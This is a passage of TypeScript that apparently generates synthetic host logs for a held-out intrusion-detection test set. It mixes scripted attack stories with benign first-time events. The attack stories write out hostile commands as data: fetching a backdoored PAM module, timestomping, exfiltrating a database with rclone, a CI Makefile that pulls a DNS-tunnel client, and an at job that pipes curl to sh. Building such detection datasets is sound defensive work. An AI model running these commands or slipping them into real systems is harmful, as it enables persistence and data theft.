        h.file(t + 8, '/tmp/.vsc-cache', 'DELETED', { category: 'tmp', ...s });
      },
    },
    {
      id: 'pam-backdoor',
      title:
        'authentication process modification (T1556.003): a root session from another compromised internal host replaces pam_unix.so with a backdoored build and timestomps it (T1070.006)',
      host: 'pg-main',
      day: 0,
      play(h, t) {
        const s = { story: this.id };
        const from = '10.40.3.66';
        const lib = '/lib/x86_64-linux-gnu/security/pam_unix.so';
        h.login(t, 'root', from, s);
        const shell = h.session(t, 'root', s);
        const curl = h.exec(t + 20, 'root', '/usr/bin/curl', `curl -so /dev/shm/.pu http://${from}:8000/pam_unix.so`, shell, { cwd: '/root', ...s });
        socket(h, r, t + 21, { pid: curl, path: '/usr/bin/curl', action: 'connect', address: from, port: 8000, auid: '0' }, s);
        h.exec(t + 40, 'root', '/usr/bin/cp', `cp /dev/shm/.pu ${lib}`, shell, { cwd: '/root', ...s });
        h.file(t + 40, lib, 'UPDATED', { category: 'libraries', ...s });
        h.exec(t + 55, 'root', '/usr/bin/touch', `touch -r /lib/x86_64-linux-gnu/security/pam_permit.so ${lib}`, shell, { cwd: '/root', ...s });
        h.file(t + 55, lib, 'ATTRIBUTES_MODIFIED', { category: 'libraries', ...s });
        h.exec(t + 60, 'root', '/usr/bin/rm', 'rm -f /dev/shm/.pu', shell, { cwd: '/root', ...s });
        h.history(t + 20, 'root', `curl -so /dev/shm/.pu http://${from}:8000/pam_unix.so`, s);
        h.history(t + 40, 'root', `cp /dev/shm/.pu ${lib}`, s);
        h.history(t + 55, 'root', `touch -r /lib/x86_64-linux-gnu/security/pam_permit.so ${lib}`, s);
      },
    },
    {
      id: 'rclone-exfil',
      title:
        "data staged (T1074.001) and exfiltrated to cloud storage (T1567.002): the DBA's credentials at 3 a.m. from the DBA's own address dump the application database to /dev/shm and copy it out with a downloaded rclone",
      host: 'pg-main',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        const dir = '/dev/shm/.cache';
        const cwd = { cwd: dir, ...s };
        h.login(t, 'omar', '10.40.8.37', s);
        const shell = h.session(t, 'omar', s);
        const steps: Array<[string, string, [string, number][]?]> = [
          ['/usr/bin/mkdir', `mkdir -p ${dir}`],
          ['/usr/bin/pg_dump', `pg_dump -Fc -d appdb -f ${dir}/a.dump`, [['127.0.0.1', 5432]]],
          ['/usr/bin/wget', `wget -q https://downloads.rclone.org/v1.68.2/rclone-v1.68.2-linux-amd64.zip -O ${dir}/r.zip`, [['95.217.6.16', 443]]],
          ['/usr/bin/unzip', `unzip -q ${dir}/r.zip -d ${dir}`],
          [
            `${dir}/rclone-v1.68.2-linux-amd64/rclone`,
            `${dir}/rclone-v1.68.2-linux-amd64/rclone copy ${dir}/a.dump mega:bk --config ${dir}/rc.conf`,
            [
              ['31.216.145.5', 443],
              ['31.216.145.5', 443],
              ['31.216.148.12', 443],
            ],
          ],
          ['/usr/bin/rm', `rm -rf ${dir}`],
        ];
        let tt = t + 15;
        for (const [exe, cmd, net] of steps) {
          const pid = h.exec(tt, 'omar', exe, cmd, shell, cwd);
          h.history(tt, 'omar', cmd, s);
          for (const [k, [address, port]] of (net ?? []).entries())
            socket(h, r, tt + 1 + k * 40, { pid, path: exe, action: 'connect', address, port, auid: '1002' }, s);
          tt += exe.endsWith('rclone') ? 600 : 20 + Math.floor(r() * 60);
        }
      },
    },
    {
      id: 'dns-tunnel',
      title:
        'poisoned CI build (T1195.002 via a repository commit) runs a DNS tunnel (T1071.004, T1572): a Makefile target fetches a dnscat client and it keeps querying an outside name server directly',
      host: 'ci-runner-3',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        // the build is the agent's usual: unlabelled; the poisoned target's acts are the attacker's
        const sh = jenkinsJob(h, t, r, 'runner');
        const cwd = { cwd: '/var/lib/jenkins/workspace/runner', ...s };
        const make = h.exec(t + 10, 'jenkins', '/usr/bin/make', 'make deps', sh, cwd);
        const msh = h.exec(
          t + 11,
          'jenkins',
          '/bin/sh',
          '/bin/sh -c curl -fsSL https://raw.githubusercontent.com/x-tools-dev/ci-cache/main/dc -o /tmp/.dc && chmod +x /tmp/.dc && nohup /tmp/.dc &',
          make,
          cwd,
        );
        const curl = h.exec(
          t + 11,
          'jenkins',
          '/usr/bin/curl',
          'curl -fsSL https://raw.githubusercontent.com/x-tools-dev/ci-cache/main/dc -o /tmp/.dc',
          msh,
          cwd,
        );
        socket(h, r, t + 12, { pid: curl, path: '/usr/bin/curl', action: 'connect', address: '185.199.108.133', port: 443, auid: UNSET }, s);
        h.file(t + 13, '/tmp/.dc', 'CREATED', { category: 'tmp', ...s });
        h.exec(t + 14, 'jenkins', '/usr/bin/chmod', 'chmod +x /tmp/.dc', msh, cwd);
        const dc = h.exec(t + 15, 'jenkins', '/tmp/.dc', '/tmp/.dc --dns server=198.51.100.53,port=53,domain=cdn-telemetry.net --secret=6f1c2a9e', msh, cwd);
        for (let k = 0; k < 16; k++)
          socket(
            h,
            r,
            t + 16 + k * (120 + Math.floor(r() * 240)),
            { pid: dc, path: '/tmp/.dc', action: 'connect', address: '198.51.100.53', port: 53, auid: UNSET, udp: true },
            s,
          );
      },
    },
    {
      id: 'at-job',
      title:
        'scheduled task with at (T1053.002) from a web shell: the site worker queues a job, atd runs it, it writes a PHP web shell (T1505.003) and queues itself again',
      host: 'edge-web',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        const cwd = { cwd: '/var/www/shop/uploads', ...s };
        // the exploited worker is the site's usual process: unlabelled
        const fpm = h.exec(t, 'www-data', '/usr/sbin/php-fpm8.2', 'php-fpm: pool www', '950', { cwd: '/var/www/shop' });
        const sh = h.exec(t + 1, 'www-data', '/bin/sh', "sh -c echo 'curl -s http://198.51.100.12/k | sh' | at now + 2 minutes", fpm, cwd);
        h.exec(t + 1, 'www-data', '/usr/bin/at', 'at now + 2 minutes', sh, cwd);
        h.file(t + 2, '/var/spool/cron/atjobs/a00001019b2c41', 'CREATED', s);
        const t2 = t + 120;
        const job = h.exec(t2, 'www-data', '/bin/sh', 'sh', '680', cwd);
        const curl = h.exec(t2 + 1, 'www-data', '/usr/bin/curl', 'curl -s http://198.51.100.12/k', job, cwd);
        socket(h, r, t2 + 2, { pid: curl, path: '/usr/bin/curl', action: 'connect', address: '198.51.100.12', port: 80, auid: UNSET }, s);
        const stage = h.exec(t2 + 2, 'www-data', '/bin/sh', 'sh', job, cwd);
        h.exec(t2 + 3, 'www-data', '/usr/bin/base64', 'base64 -d', stage, cwd);
        h.file(t2 + 3, '/var/www/shop/uploads/.cache.php', 'CREATED', s);
        h.exec(t2 + 4, 'www-data', '/usr/bin/at', 'at now + 1 hour', stage, cwd);
        h.file(t2 + 4, '/var/spool/cron/atjobs/a00002019b2c7d', 'CREATED', s);
      },
    },
  ];
}

// ---- benign first times ----

export function heldout3Novelties(hosts: ReadonlyMap<string, Host>, rand: Rand): Story[] {
  const r = rand;
  const mon = hosts.get('mon-1')!;
  return [
    {
      id: 'first-pg-dump-restore',
      title:
        "the DBA's first dump and restore, on a Tuesday before a migration: pg_dump, a scratch database restored from it, a check, the dump copied to the vault",
      host: 'pg-main',
      day: 0,
      play(h, t) {
        const n = { novelty: this.id };
        h.login(t, 'omar', '10.40.8.37', n);
        const shell = h.session(t, 'omar', n);
        const dump = '/var/backups/appdb-pre-migration.dump';
        const steps: Array<[string, string, [string, number]?]> = [
          ['/usr/bin/pg_dump', `pg_dump -Fc -d appdb -f ${dump}`, ['127.0.0.1', 5432]],
          ['/usr/bin/ls', `ls -lh ${dump}`],
          ['/usr/bin/createdb', 'createdb appdb_migtest', ['127.0.0.1', 5432]],
          ['/usr/bin/pg_restore', `pg_restore -j 4 -d appdb_migtest ${dump}`, ['127.0.0.1', 5432]],
          ['/usr/bin/psql', 'psql -d appdb_migtest -c select count(*) from orders', ['127.0.0.1', 5432]],
          ['/usr/bin/scp', `scp ${dump} vault.internal:/srv/dumps/`, ['10.40.0.9', 22]],
          ['/usr/bin/dropdb', 'dropdb appdb_migtest', ['127.0.0.1', 5432]],
        ];
        let tt = t + 40;
        for (const [exe, cmd, net] of steps) {
          const pid = h.exec(tt, 'omar', exe, cmd, shell, { cwd: '/home/omar', ...n });
          h.history(tt, 'omar', cmd, n);
          if (net) socket(h, r, tt + 1, { pid, path: exe, action: 'connect', address: net[0], port: net[1], auid: '1002' }, n);
          tt += exe === '/usr/bin/pg_restore' || exe === '/usr/bin/pg_dump' ? 400 + Math.floor(r() * 300) : 30 + Math.floor(r() * 120);
        }
        h.file(t + 41, dump, 'CREATED', { category: 'backups', ...n });
      },
    },
    {
      id: 'oncall-night-triage',
      title:
        'the on-call operator is paged at night: a first login from the home VPN pool at 2 a.m., logs and load read, the PHP service restarted with sudo, the site checked',
      host: 'edge-web',
      day: 1,
      play(h, t) {
        const n = { novelty: this.id };
        h.login(t, 'ops', '10.40.9.15', n);
        const shell = h.session(t, 'ops', n);
        const steps: Array<[string, string]> = [
          ['/usr/bin/uptime', 'uptime'],
          ['/usr/bin/journalctl', 'journalctl -u php8.2-fpm --since -30min'],
          ['/usr/bin/tail', 'tail -n 500 /var/log/nginx/error.log'],
          ['/usr/bin/ss', 'ss -s'],
          ['/usr/bin/top', 'top -b -n 1'],
          ['/usr/bin/dmesg', 'dmesg -T'],
        ];
        let tt = t + 30;
        for (const [exe, cmd] of steps) {
          h.exec(tt, 'ops', exe, cmd, shell, { cwd: '/home/ops', ...n });
          h.history(tt, 'ops', cmd, n);
          tt += 20 + Math.floor(r() * 90);
        }
        h.history(tt, 'ops', 'sudo systemctl restart php8.2-fpm', n);
        const sudo = h.exec(tt, 'ops', '/usr/bin/sudo', 'sudo systemctl restart php8.2-fpm', shell, { euid: '0', cwd: '/home/ops', ...n });
        h.exec(tt + 1, 'ops', '/usr/bin/systemctl', 'systemctl restart php8.2-fpm', sudo, { uid: '0', euid: '0', cwd: '/home/ops', ...n });
        const curl = h.exec(tt + 40, 'ops', '/usr/bin/curl', 'curl -sI https://localhost/health', shell, { cwd: '/home/ops', ...n });
        h.connect(tt + 41, curl, '/usr/bin/curl', '1003', '127.0.0.1', 443, n);
        h.exec(tt + 90, 'ops', '/usr/bin/tail', 'tail -n 50 /var/log/nginx/error.log', shell, { cwd: '/home/ops', ...n });
      },
    },
    {
      id: 'node-exporter-install',
      title:
        'the database host is brought under monitoring: the puppet run installs the node exporter (apt, dpkg, a new system account, a new listening port), the operator adds the target on the monitoring server and Prometheus starts scraping',
      host: 'pg-main, mon-1',
      day: 0,
      play(h, t) {
        const n = { novelty: this.id };
        const root = { uid: '0', cwd: '/', ...n };
        const ruby = h.exec(
          t,
          null,
          '/opt/puppetlabs/puppet/bin/ruby',
          '/opt/puppetlabs/puppet/bin/ruby /opt/puppetlabs/puppet/bin/puppet agent --onetime --no-daemonize --verbose',
          '1',
          n,
        );
        socket(h, r, t + 2, { pid: ruby, path: '/opt/puppetlabs/puppet/bin/ruby', action: 'connect', address: PUPPET, port: 8140, auid: UNSET }, n);
        const apt = h.exec(
          t + 10,
          null,
          '/usr/bin/apt-get',
          '/usr/bin/apt-get -q -y -o DPkg::Options::=--force-confold install prometheus-node-exporter',
          ruby,
          root,
        );
        const m = h.exec(t + 11, null, '/usr/lib/apt/methods/http', '/usr/lib/apt/methods/http', apt, root);
        socket(h, r, t + 12, { pid: m, path: '/usr/lib/apt/methods/http', action: 'connect', address: '91.189.91.39', port: 80, auid: UNSET }, n);
        const dpkg = h.exec(
          t + 20,
          null,
          '/usr/bin/dpkg',
          '/usr/bin/dpkg --status-fd 47 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/prometheus-node-exporter.deb',
          apt,
          root,
        );
        const post = h.exec(
          t + 24,
          null,
          '/var/lib/dpkg/info/prometheus-node-exporter.postinst',
          '/var/lib/dpkg/info/prometheus-node-exporter.postinst configure',
          dpkg,
          root,
        );
        h.exec(t + 25, null, '/usr/sbin/adduser', 'adduser --quiet --system --group --no-create-home --home /var/lib/prometheus prometheus', post, root);
        h.exec(t + 25, null, '/usr/sbin/useradd', 'useradd -d /var/lib/prometheus -g prometheus -s /usr/sbin/nologin -r prometheus', post, root);
        h.file(t + 25, '/etc/passwd', 'UPDATED', n);
        h.file(t + 25, '/etc/group', 'UPDATED', n);
        h.exec(t + 27, null, '/usr/bin/deb-systemd-helper', 'deb-systemd-helper enable prometheus-node-exporter.service', post, root);
        h.exec(t + 28, null, '/usr/bin/systemctl', 'systemctl start prometheus-node-exporter.service', post, root);
        const exporter = h.exec(t + 29, 'prometheus', '/usr/bin/prometheus-node-exporter', '/usr/bin/prometheus-node-exporter', '1', { cwd: '/', ...n });
        // Host.listen takes no novelty: the new port is this install's doing all the same
        tagged(h, this.id, () => h.listen(t + 30, exporter, 9100, '0.0.0.0'));
        // on the monitoring server: the operator adds the target and reloads
        const t2 = t + 1200 + Math.floor(r() * 600);
        tagged(mon, this.id, () => {
          mon.login(t2, 'ops', '10.40.8.44');
          const shell = mon.session(t2, 'ops');
          mon.exec(t2 + 20, 'ops', '/usr/bin/vim', 'vim /etc/prometheus/prometheus.yml', shell, { cwd: '/home/ops' });
          mon.file(t2 + 90, '/etc/prometheus/prometheus.yml', 'UPDATED');
          mon.history(t2 + 20, 'ops', 'vim /etc/prometheus/prometheus.yml');
          mon.exec(t2 + 100, 'ops', '/usr/bin/promtool', 'promtool check config /etc/prometheus/prometheus.yml', shell, { cwd: '/home/ops' });
          const sudo = mon.exec(t2 + 110, 'ops', '/usr/bin/sudo', 'sudo systemctl reload prometheus', shell, { euid: '0' });
          mon.exec(t2 + 111, 'ops', '/usr/bin/systemctl', 'systemctl reload prometheus', sudo, { uid: '0', euid: '0' });
          // scrapes from then to the end of the labelled days, on both hosts' logs
          const end = t - (t % DAY) + 2 * DAY;
          for (let tt = t2 + 120; tt < end; tt += 4 * HOUR + Math.floor(r() * 4 * HOUR)) {
            socket(mon, r, tt, { pid: '740', path: '/usr/bin/prometheus', action: 'connect', address: PG, port: 9100, auid: UNSET });
            socket(
              h,
              r,
              tt,
              { pid: exporter, path: '/usr/bin/prometheus-node-exporter', action: 'accept', address: MON, port: 0, localPort: 9100, auid: UNSET },
              n,
            );
          }
        });
      },
    },
    {
      id: 'kernel-upgrade-reboot',
      title:
        'unattended-upgrades installs a new kernel (initramfs, depmod, grub) and reboots the CI runner at dawn: the boot sequence the host has not logged before',
      host: 'ci-runner-3',
      day: 0,
      play(h, t) {
        const n = { novelty: this.id };
        const root = { uid: '0', cwd: '/', ...n };
        const k = '6.8.0-52-generic';
        const uu = h.exec(t, null, '/usr/bin/python3', '/usr/bin/python3 /usr/bin/unattended-upgrade', '1', root);
        const dpkg = h.exec(
          t + 30,
          null,
          '/usr/bin/dpkg',
          `/usr/bin/dpkg --status-fd 11 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/linux-image-${k}.deb`,
          uu,
          root,
        );
        h.exec(t + 31, null, '/usr/bin/dpkg-deb', `dpkg-deb --fsys-tarfile /var/cache/apt/archives/linux-modules-${k}.deb`, dpkg, root);
        const cfg = h.exec(t + 90, null, '/usr/bin/dpkg', '/usr/bin/dpkg --status-fd 11 --configure --pending', uu, root);
        const post = h.exec(t + 91, null, `/var/lib/dpkg/info/linux-image-${k}.postinst`, `/var/lib/dpkg/info/linux-image-${k}.postinst configure`, cfg, root);
        const parts = h.exec(
          t + 92,
          null,
          '/bin/run-parts',
          `run-parts --report --exit-on-error --arg=${k} --arg=/boot/vmlinuz-${k} /etc/kernel/postinst.d`,
          post,
          root,
        );
        h.exec(t + 93, null, '/usr/sbin/depmod', `depmod -a -F /boot/System.map-${k} ${k}`, parts, root);
        const ird = h.exec(t + 100, null, '/usr/sbin/update-initramfs', `update-initramfs -c -k ${k}`, parts, root);
        h.exec(t + 101, null, '/usr/sbin/mkinitramfs', `mkinitramfs -o /boot/initrd.img-${k}.new ${k}`, ird, root);
        h.file(t + 140, `/boot/initrd.img-${k}`, 'CREATED', { category: 'boot', ...n });
        const grub = h.exec(t + 150, null, '/usr/sbin/update-grub', 'update-grub', parts, root);
        h.exec(t + 151, null, '/usr/sbin/grub-mkconfig', 'grub-mkconfig -o /boot/grub/grub.cfg', grub, root);
        h.file(t + 160, '/boot/grub/grub.cfg', 'UPDATED', { category: 'boot', ...n });
        h.file(t + 165, '/var/run/reboot-required', 'CREATED', n);
        const t2 = t + 600;
        h.exec(t2, null, '/sbin/shutdown', '/sbin/shutdown -r now', uu, root);
        // the boot: systemd starts the services again, the network, sshd, cron, docker and the agent
        const boot: Array<[string, string]> = [
          ['/usr/lib/systemd/systemd-journald', '/usr/lib/systemd/systemd-journald'],
          ['/usr/lib/systemd/systemd-udevd', '/usr/lib/systemd/systemd-udevd'],
          ['/sbin/modprobe', '/sbin/modprobe -abq -- overlay br_netfilter'],
          ['/usr/lib/systemd/systemd-networkd', '/usr/lib/systemd/systemd-networkd'],
          ['/usr/lib/systemd/systemd-resolved', '/usr/lib/systemd/systemd-resolved'],
          ['/usr/sbin/sshd', '/usr/sbin/sshd -D'],
          ['/usr/sbin/cron', '/usr/sbin/cron -f -P'],
          ['/usr/bin/containerd', '/usr/bin/containerd'],
          ['/usr/bin/dockerd', '/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock'],
        ];
        let tt = t2 + 95;
        for (const [exe, cmd] of boot) h.exec((tt += 1 + Math.floor(r() * 3)), null, exe, cmd, '1', root);
        const agent = h.exec(
          tt + 5,
          'jenkins',
          '/usr/bin/java',
          `java -jar /var/lib/jenkins/agent.jar -url http://${JENKINS}:8080/ -name ci-runner-3 -workDir /var/lib/jenkins`,
          '1',
          {
            cwd: '/var/lib/jenkins',
            ...n,
          },
        );
        socket(h, r, tt + 7, { pid: agent, path: '/usr/bin/java', action: 'connect', address: JENKINS, port: 8080, auid: UNSET }, n);
        tagged(h, this.id, () => h.listen(tt + 8, h.sshdPid, 22, '0.0.0.0'));
        h.file(tt + 9, '/var/run/reboot-required', 'DELETED', n);
      },
    },
    {
      id: 'new-ci-pipeline',
      title:
        "a new security-scan pipeline on the CI runner: its first build installs trivy with the vendor's install script from GitHub and scans the runner image",
      host: 'ci-runner-3',
      day: 1,
      play(h, t) {
        const n = { novelty: this.id };
        const cwd = { cwd: '/var/lib/jenkins/workspace/security-scan', ...n };
        const sh = jenkinsJob(h, t, r, 'security-scan', n);
        const ish = h.exec(
          t + 10,
          'jenkins',
          '/bin/sh',
          '/bin/sh -c curl -sSfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh | sh -s -- -b /var/lib/jenkins/bin v0.58.1',
          sh,
          cwd,
        );
        const curl = h.exec(
          t + 10,
          'jenkins',
          '/usr/bin/curl',
          'curl -sSfL https://raw.githubusercontent.com/aquasecurity/trivy/main/contrib/install.sh',
          ish,
          cwd,
        );
        socket(h, r, t + 11, { pid: curl, path: '/usr/bin/curl', action: 'connect', address: '185.199.108.133', port: 443, auid: UNSET }, n);
        const inst = h.exec(t + 12, 'jenkins', '/bin/sh', 'sh -s -- -b /var/lib/jenkins/bin v0.58.1', ish, cwd);
        const curl2 = h.exec(
          t + 13,
          'jenkins',
          '/usr/bin/curl',
          'curl -sSfL -o /tmp/tmp.Xk2/trivy_0.58.1_Linux-64bit.tar.gz https://github.com/aquasecurity/trivy/releases/download/v0.58.1/trivy_0.58.1_Linux-64bit.tar.gz',
          inst,
          cwd,
        );
        socket(h, r, t + 14, { pid: curl2, path: '/usr/bin/curl', action: 'connect', address: '140.82.121.4', port: 443, auid: UNSET }, n);
        h.exec(t + 20, 'jenkins', '/usr/bin/tar', 'tar -xzf /tmp/tmp.Xk2/trivy_0.58.1_Linux-64bit.tar.gz -C /tmp/tmp.Xk2', inst, cwd);
        h.exec(t + 21, 'jenkins', '/usr/bin/install', 'install /tmp/tmp.Xk2/trivy /var/lib/jenkins/bin/', inst, cwd);
        h.file(t + 21, '/var/lib/jenkins/bin/trivy', 'CREATED', { category: 'binaries', ...n });
        const trivy = h.exec(
          t + 30,
          'jenkins',
          '/var/lib/jenkins/bin/trivy',
          'trivy image --exit-code 1 --severity HIGH,CRITICAL registry.internal:5000/runner:ci',
          sh,
          cwd,
        );
        socket(h, r, t + 31, { pid: trivy, path: '/var/lib/jenkins/bin/trivy', action: 'connect', address: '140.82.121.34', port: 443, auid: UNSET }, n);
        socket(h, r, t + 60, { pid: trivy, path: '/var/lib/jenkins/bin/trivy', action: 'connect', address: '10.40.0.6', port: 5000, auid: UNSET }, n);
      },
    },
  ];
}

/** hour of the labelled day each story is played at */
const STORY_HOURS: Record<string, number> = {
  'python-reverse-shell': 16,
  'bind-shell': 3,
  'suid-backdoor': 22,
  'su-spray': 13,
  'malicious-deb': 11,
  'extension-stealer': 15,
  'pam-backdoor': 2,
  'rclone-exfil': 3,
  'dns-tunnel': 15,
  'at-job': 20,
  'first-pg-dump-restore': 10,
  'oncall-night-triage': 2,
  'node-exporter-install': 14,
  'kernel-upgrade-reboot': 6,
  'new-ci-pipeline': 10,
};

export function generateHeldout3(opts: StorySetOptions): StorySet {
  if (opts.days < 5) throw new Error('the third held-out set needs at least 5 days');
  // its own stream for a seed: nothing lines up with the other sets by accident
  const r = xorshift(opts.seed * 104729 + 31);
  const ci = companyHost('ci-runner-3', r, [
    { name: 'jenkins', uid: '995', home: '/var/lib/jenkins', service: true },
    { name: 'prometheus', uid: '119', home: '/var/lib/prometheus', service: true },
  ]);
  const pg = companyHost('pg-main', r);
  const web = companyHost('edge-web', r, [{ name: 'prometheus', uid: '119', home: '/var/lib/prometheus', service: true }]);
  const mon = new Host(
    'mon-1',
    [
      { name: 'root', uid: '0', home: '/root' },
      { name: 'ops', uid: '1003', home: '/home/ops' },
      { name: 'prometheus', uid: '120', home: '/var/lib/prometheus', service: true },
      { name: 'grafana', uid: '121', home: '/usr/share/grafana', service: true },
      { name: 'backup', uid: '998', home: '/var/backups' },
    ],
    r,
  );
  const dev = new Host(
    'dev-ws-4',
    [
      { name: 'root', uid: '0', home: '/root' },
      { name: 'priya', uid: '1006', home: '/home/priya' },
    ],
    r,
  );
  const hosts = [ci, pg, web, mon, dev];
  const byName = new Map(hosts.map((h) => [h.name, h]));
  const firstTest = opts.days - 2;
  for (let d = 0; d < opts.days; d++) {
    const day = opts.start + d * DAY;
    // the account the node exporter's install creates is in the next day's `users` snapshot
    if (d === firstTest + 1) pg.accounts.push({ name: 'prometheus', uid: '119', home: '/var/lib/prometheus', service: true });
    hostBackground(hosts, day, r);
    for (const h of [ci, web, mon]) nodeExporter(h, day, r);
    nightlyBackup(ci, day, r, '/srv/ci');
    nightlyBackup(pg, day, r, '/var/lib/postgresql/15/main');
    nightlyBackup(mon, day, r, '/etc/prometheus /var/lib/grafana');
    developer(ci, day, r, 'dana');
    ciJobs(ci, day, r);
    weeklyDba(pg, day, r, 'omar');
    postgres(pg, day, r);
    webEdge(web, day, r);
    operator(web, day, r, 'ops');
    weeklyDeploy(web, day, r);
    certRenewal(web, day, r);
    monitoring(mon, day, r, [CI, WEB, '127.0.0.1']);
    desktop(dev, day, r, 'priya');
  }
  const attacks = heldout3Attacks(r);
  const novelties = heldout3Novelties(byName, r);
  playStories([...novelties, ...attacks], STORY_HOURS, (s) => byName.get(s.host.split(',')[0])!, opts.start + firstTest * DAY, r);
  for (const row of pg.rows) if (row.query === 'pack_hids_users' && row.columns.username === 'prometheus') row.novelty = 'node-exporter-install';
  const split = splitLabelled(hosts, opts.start + firstTest * DAY);
  return { ...split, stories: attacks, novelties };
}
